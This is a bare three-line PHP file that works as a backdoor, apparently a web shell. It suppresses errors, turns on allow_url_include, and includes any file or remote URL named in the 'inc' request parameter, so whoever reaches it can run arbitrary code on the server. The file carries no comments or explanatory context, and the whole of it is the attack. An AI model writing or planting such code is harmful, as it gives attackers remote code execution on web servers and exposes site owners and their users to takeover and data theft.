<?php
@ini_set('allow_url_include', '1');
@include($_REQUEST['inc']);
